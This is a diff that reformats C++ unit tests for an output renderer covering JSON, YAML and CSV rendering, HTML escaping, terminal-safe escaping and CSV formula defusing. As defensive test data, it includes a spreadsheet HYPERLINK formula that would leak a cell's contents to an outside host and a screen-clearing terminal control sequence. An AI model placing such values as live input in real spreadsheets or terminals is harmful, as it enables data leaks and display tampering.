@@ -19,9 +19,12 @@ namespace {
 
 Records sample() {
     Records r;
-    r.columns = {{"seq", Kind::integer}, {"name"}, {"time", Kind::time}, {"details", Kind::json}, {"hash", Kind::text, false}};
-    r.rows.push_back({{"seq", 1}, {"name", "张三"}, {"time", "2026-11-25T06:00:07Z"}, {"details", {{"a", 1}}}, {"hash", "h1"}});
-    r.rows.push_back({{"seq", 12}, {"name", "li, \"si\""}, {"time", "2026-01-01T00:00:00Z"}, {"details", nullptr}, {"hash", "h2"}});
+    r.columns = {
+        {"seq", Kind::integer}, {"name"}, {"time", Kind::time}, {"details", Kind::json}, {"hash", Kind::text, false}};
+    r.rows.push_back(
+        {{"seq", 1}, {"name", "张三"}, {"time", "2026-11-25T06:00:07Z"}, {"details", {{"a", 1}}}, {"hash", "h1"}});
+    r.rows.push_back(
+        {{"seq", 12}, {"name", "li, \"si\""}, {"time", "2026-01-01T00:00:00Z"}, {"details", nullptr}, {"hash", "h2"}});
     return r;
 }
 
@@ -48,7 +51,8 @@ TEST_CASE("a table with no rows prints nothing") {
 TEST_CASE("jsonl keeps every column, in order, with UTC times and nested JSON") {
     CHECK(render(Format::jsonl, sample()) ==
           "{\"seq\":1,\"name\":\"张三\",\"time\":\"2026-11-25T06:00:07Z\",\"details\":{\"a\":1},\"hash\":\"h1\"}\n"
-          "{\"seq\":12,\"name\":\"li, \\\"si\\\"\",\"time\":\"2026-01-01T00:00:00Z\",\"details\":null,\"hash\":\"h2\"}\n");
+          "{\"seq\":12,\"name\":\"li, "
+          "\\\"si\\\"\",\"time\":\"2026-01-01T00:00:00Z\",\"details\":null,\"hash\":\"h2\"}\n");
 }
 
 TEST_CASE("json is one array") {
@@ -85,7 +89,8 @@ TEST_CASE("a document renders as YAML that reads back, and flattens for csv") {
     CHECK(back["school"]["name"].as<std::string>() == "测试小学");
     CHECK(back["school"]["code"].as<std::string>() == "");
     CHECK(back["list"][1].as<std::string>() == "two");
-    CHECK(render_document(doc, Format::csv) == "key,value\nschool.name,测试小学\nschool.code,\nlist[0],1\nlist[1],two\n");
+    CHECK(render_document(doc, Format::csv) ==
+          "key,value\nschool.name,测试小学\nschool.code,\nlist[0],1\nlist[1],two\n");
 }
 
 TEST_CASE("html_escape makes text safe for element content and quoted attributes") {
@@ -99,9 +104,10 @@ TEST_CASE("terminal_safe shows C0, DEL, C1 and bytes that are not UTF-8 as escap
     CHECK(terminal_safe("a\tb\nc\rd") == "a\\tb\\nc\\rd");
     CHECK(terminal_safe(std::string("nul\0end", 7)) == "nul\\x00end");
     CHECK(terminal_safe("del\x7f") == "del\\x7f");
-    CHECK(terminal_safe("csi\xc2\x9b" "2J") == "csi\\u009b2J"); // U+009B, the one-character CSI
-    CHECK(terminal_safe("bad\x9b\xff") == "bad\\x9b\\xff");      // not UTF-8: each byte shown
-    CHECK(terminal_safe("张三 é ok \\n") == "张三 é ok \\n");   // text, and a backslash, unchanged
+    CHECK(terminal_safe("csi\xc2\x9b"
+                        "2J") == "csi\\u009b2J");             // U+009B, the one-character CSI
+    CHECK(terminal_safe("bad\x9b\xff") == "bad\\x9b\\xff");   // not UTF-8: each byte shown
+    CHECK(terminal_safe("张三 é ok \\n") == "张三 é ok \\n"); // text, and a backslash, unchanged
 }
 
 TEST_CASE("a table escapes control characters in every cell and keeps its columns lined up; jsonl and tsv do not") {
@@ -134,12 +140,24 @@ TEST_CASE("csv defuses cells a spreadsheet would take for formulas; plain number
     CHECK(csv_quote("2026-09-01T08:00:00Z") == "2026-09-01T08:00:00Z");
     CHECK(csv_quote("O'Brien") == "O'Brien");
     CHECK(csv_quote("'s-Hertogenbosch") == "'s-Hertogenbosch"); // a quote before a letter is kept as it is
-    CHECK(csv_quote("'=x") == "\"''=x\"");                     // marked too, so the mark comes off exactly
+    CHECK(csv_quote("'=x") == "\"''=x\"");                      // marked too, so the mark comes off exactly
 }
 
 TEST_CASE("reading csv takes off exactly the mark that writing put on") {
-    const std::vector<std::string> values = {"=HYPERLINK(\"http://x/?\"&A1)", "-5", "-x", "+1", "@a", "'=x", "''", "'",
-                                             "'s", "O'Brien", "\tx", "a=b", "", "张三"};
+    const std::vector<std::string> values = {"=HYPERLINK(\"http://x/?\"&A1)",
+                                             "-5",
+                                             "-x",
+                                             "+1",
+                                             "@a",
+                                             "'=x",
+                                             "''",
+                                             "'",
+                                             "'s",
+                                             "O'Brien",
+                                             "\tx",
+                                             "a=b",
+                                             "",
+                                             "张三"};
     Records r;
     r.columns = {{"name"}, {"n"}};
     for (const auto& v : values) r.rows.push_back({{"name", v}, {"n", "-"}});
